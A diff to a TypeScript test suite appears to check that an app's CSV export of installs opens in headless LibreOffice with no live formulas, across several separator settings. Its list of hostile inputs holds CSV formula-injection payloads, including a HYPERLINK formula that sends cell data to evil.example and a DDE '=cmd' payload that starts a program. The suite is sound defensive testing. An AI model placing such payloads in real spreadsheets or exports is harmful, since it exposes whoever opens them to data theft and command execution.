@@ -13,14 +13,17 @@ import { MINE, recently, startTwoOrganizations, type TwoOrganizations } from '..
 
 const run = promisify(execFile)
 const PROGRAM = 'soffice'
+/** What cells are split by: as the file says, as a locale with decimal commas has it, and both of the import's usual choices with tabs. */
+const SEPARATORS = ['44', '59', '9', '44/59/9'] as const
 /**
- * Comma, double quote, UTF-8, from the first line; neither quoted cells as text nor numbers guessed; and what looks like a formula becomes one:
+ * Double quote, UTF-8, from the first line; neither quoted cells as text nor numbers guessed; and what looks like a formula becomes one:
  * a spreadsheet at its most careless.
  */
-const CARELESS = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true'
+const careless = (separators: string): string => `CSV:${separators},34,76,1,,0,false,true,false,false,false,-1,true`
 const HOSTILE = [
   ...['=1+1', '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(1;1)'],
   ...['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '"=1+1', "'=1+1", '"",=1+1', 'a,=1+1', 'a"\r\n=1+1', ';=1+1', '＝1+1'],
+  ...["x;=cmd|' /C calc'!A0;", 'x;=1+1;', 'x; "=1+1";', 'x\t=1+1\t', 'x"\n=1+1;', 'x;\t=1+1;', "x;'=1+1;", 'x,=1+1;y'],
   ...['=1+1'.padEnd(150, '+1'), '𝒳=1+1', '\u202E=1+1', '\u00A0=1+1', '\uFEFF=1+1'],
 ]
 
@@ -40,9 +43,10 @@ describe('A download of installs in LibreOffice', function () {
   })
 
   /** The sheet as XML: each formula is an attribute of its cell. */
-  async function opened(name: string, csv: string): Promise<string> {
+  async function opened(name: string, csv: string, separators = '44'): Promise<string> {
     await writeFile(join(folder, `${name}.csv`), csv)
-    const words = [`-env:UserInstallation=file://${folder}/profile`, '--headless', `--infilter=${CARELESS}`]
+    const filter = `--infilter=${careless(separators)}`
+    const words = [`-env:UserInstallation=file://${folder}/profile`, '--headless', filter]
     await run(PROGRAM, [...words, '--convert-to', 'fods', '--outdir', folder, join(folder, `${name}.csv`)])
     return readFile(join(folder, `${name}.fods`), 'utf8')
   }
@@ -50,6 +54,7 @@ describe('A download of installs in LibreOffice', function () {
 
   it('runs a formula that nothing was done about', async () => {
     expect(formulasIn(await opened('careless', 'a,b\r\n=1+1,x\r\n"=2+2",y\r\n'))).to.equal(2)
+    expect(formulasIn(await opened('careless', 'a,x;=1+1;b\r\na,"x\r\n=2+2;",b\r\n', '59'))).to.equal(2)
   })
 
   it('has no formula, and every install', async () => {
@@ -68,10 +73,12 @@ describe('A download of installs in LibreOffice', function () {
     await store(both.facts, [visit, ...installs])
     for (const excel of ['', '?excel=true']) {
       const { text } = await both.get(`installs/export${excel}`)
-      const sheet = await opened(`installs${excel.length}`, text)
-      expect(formulasIn(sheet), excel).to.equal(0)
-      for (const { install } of installs) expect(sheet).to.contain(install.eventId)
-      expect(sheet, 'it is there as text').to.contain('=HYPERLINK(')
+      for (const separators of SEPARATORS) {
+        const sheet = await opened(`installs${excel.length}`, text, separators)
+        expect(formulasIn(sheet), `${excel} ${separators}`).to.equal(0)
+        for (const { install } of installs) expect(sheet).to.contain(install.eventId)
+        expect(sheet, 'it is there as text').to.contain('=HYPERLINK(')
+      }
     }
   })
 })
